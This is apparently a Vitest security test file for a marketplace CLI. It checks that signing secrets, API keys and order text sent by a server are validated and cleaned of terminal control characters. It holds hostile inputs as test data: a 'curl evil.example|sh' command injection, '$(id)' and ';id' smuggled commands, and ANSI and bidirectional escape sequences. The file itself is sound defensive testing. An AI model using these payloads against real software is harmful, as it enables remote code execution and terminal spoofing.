import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { formatSigningSecret } from '@mkt/protocol/signing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { API_KEY, fakeMarketplace } from './fake-marketplace.ts';
import { runMkt } from './run-mkt.ts';

const GOOD = formatSigningSecret(new Uint8Array(32).fill(1));
const CODE = 'whsec_$(curl evil.example|sh)';

/** The characters that a terminal acts on, except line feeds. */
const CONTROLS = /(?!\n)[\p{Cc}\p{Bidi_Control}]/u;

let cwd: string;
beforeEach(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'mkt-hostile-'));
});
afterEach(() => rm(cwd, { recursive: true }));

/** Runs a command against a marketplace that sends this response to every request. */
async function against(body: unknown, argv: readonly string[]) {
  await using market = await fakeMarketplace(() => ({ body }));
  return await runMkt(argv, { cwd, env: market.env });
}

describe('an invalid signing secret', () => {
  const body = (secret: unknown) => ({
    secret,
    createdAt: '2026-11-21T00:00:00Z',
    previousExpiresAt: null,
  });

  it.each([
    ['pull', ['secrets', 'pull', 'a']],
    ['pull --print-secret', ['secrets', 'pull', 'a', '--print-secret']],
    ['pull --print-secret --json', ['secrets', 'pull', 'a', '--print-secret', '--json']],
    ['pull --no-secret-file', ['secrets', 'pull', 'a', '--no-secret-file']],
    ['rotate', ['secrets', 'rotate', 'a']],
  ])('is neither written nor printed: %s', async (_, argv) => {
    for (const secret of [
      CODE,
      `${GOOD}\nA=1`,
      `${GOOD};id`,
      formatSigningSecret(new Uint8Array(24)),
    ]) {
      const { code, stdout, stderr } = await against(body(secret), argv);
      expect([code, stdout]).toEqual([7, '']);
      expect(stderr).toContain('sent an invalid signing secret');
      expect(stderr).not.toContain('evil.example');
      expect(await readdir(cwd)).toEqual([]);
    }
  });

  it('is distinguished from a valid one', async () => {
    const { code, stdout } = await against(body(GOOD), ['secrets', 'pull', 'a', '--print-secret']);
    expect([code, stdout]).toEqual([0, `MKT_SIGNING_SECRET=${GOOD}\n`]);
  });
});

describe('text from a marketplace', () => {
  it('cannot control the terminal as the time of a rotation', async () => {
    const { stderr } = await against(
      { secret: GOOD, createdAt: 'x', previousExpiresAt: '\u001b]0;owned\u0007\u202e' },
      ['secrets', 'rotate', 'a'],
    );
    expect(stderr).toContain('owned');
    expect(stderr).not.toMatch(CONTROLS);
  });

  it('cannot control the terminal as the id of an order', async () => {
    const order = { id: 'o\u001b[8m\u009b2J', orderState: 'running', listingId: 'l' };
    const { stdout, stderr } = await against(order, ['run', 'a', '--no-wait']);
    expect(stderr).toContain("mkt orders wait 'o");
    expect(stdout + stderr).not.toMatch(CONTROLS);
  });

  it('is printed as a new API key only if it is one', async () => {
    const argv = ['keys', 'create', '--name', 'k', '--scopes', 'order:read'];
    const bad = await against({ id: 'k', name: 'k', key: '$(id)', scopes: [] }, argv);
    expect([bad.code, bad.stdout]).toEqual([7, '']);
    const good = await against({ id: 'k', name: 'k', key: API_KEY, scopes: [] }, argv);
    expect([good.code, good.stdout]).toEqual([0, `${API_KEY}\n`]);
  });
});

describe('mkt whoami', () => {
  it('names the key, or the session if there is no key', async () => {
    const me = { userId: 'u', scopes: ['order:read'] };
    const key = await against({ ...me, keyId: 'k-1', sessionId: null }, ['whoami']);
    expect(key.stdout).toMatch(/key +k-1 \(MKT_API_KEY\)/);
    const session = await against({ ...me, keyId: null, sessionId: 's-1' }, ['whoami']);
    expect(session.stdout).toMatch(/session +s-1 \(MKT_API_KEY\)/);
    expect(session.stdout).not.toContain('null');
  });
});
